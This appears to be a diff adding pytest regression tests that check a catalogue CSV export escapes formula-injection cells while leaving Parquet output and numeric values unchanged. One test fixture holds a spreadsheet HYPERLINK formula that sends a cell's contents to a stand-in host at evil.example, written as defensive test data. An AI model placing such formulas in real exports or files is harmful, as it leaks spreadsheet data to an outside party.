@@ -80,3 +80,45 @@ def test_export_round_trip(settings: Settings, tmp_path: Path, suffix: str) -> N
     assert (merged["reasons"] == merged["reasons_pub"]).all()
     titles = frame.set_index("content_id")["title"].to_dict()
     assert titles["content-a-1"] == "Intro, with comma"
+
+
+@pytest.mark.parametrize("suffix", ["csv", "parquet"])
+def test_export_neutralises_formulas_in_csv_only(
+    settings: Settings, tmp_path: Path, suffix: str
+) -> None:
+    """Table row 13: a catalogue whose titles start with =HYPERLINK(…) was exported as
+    is, a formula injection in HR's spreadsheet (OWASP CSV injection)."""
+    seed_ingestion(settings)
+    _publish(settings, "a")
+    titles = {
+        "content-a-1": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+        "content-a-2": "+1 more",
+        "content-a-3": "@SUM(1)",
+    }
+    with connect(settings.warehouse) as con:
+        con.execute("create table marts.dim_content (content_id varchar, title varchar)")
+        for content, title in titles.items():
+            con.execute("insert into marts.dim_content values (?, ?)", [content, title])
+    out = tmp_path / f"recs.{suffix}"
+    assert export(settings, out) == 0
+    frame = pd.read_parquet(out) if suffix == "parquet" else pd.read_csv(out)
+    exported = frame.dropna(subset=["title"]).set_index("content_id")["title"].to_dict()
+    prefix = "'" if suffix == "csv" else ""
+    assert exported == {c: prefix + t for c, t in titles.items() if c in exported}
+    assert exported  # the fixture's recommendations include these items
+    assert pd.api.types.is_numeric_dtype(frame["score"]) and (frame["rank"] >= 1).all()
+
+
+def test_neutralise_formulas_touches_only_text_cells() -> None:
+    from skillpath.publish.csv_safety import neutralise_formulas
+
+    frame = pd.DataFrame(
+        {
+            "text": ["=1+1", "-x", "\tTab", "\rCR", "plain", None, "a=b"],
+            "number": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0],
+        }
+    )
+    out = neutralise_formulas(frame)
+    text = [None if pd.isna(v) else v for v in out["text"]]
+    assert text == ["'=1+1", "'-x", "'\tTab", "'\rCR", "plain", None, "a=b"]
+    assert list(out["number"]) == list(frame["number"])
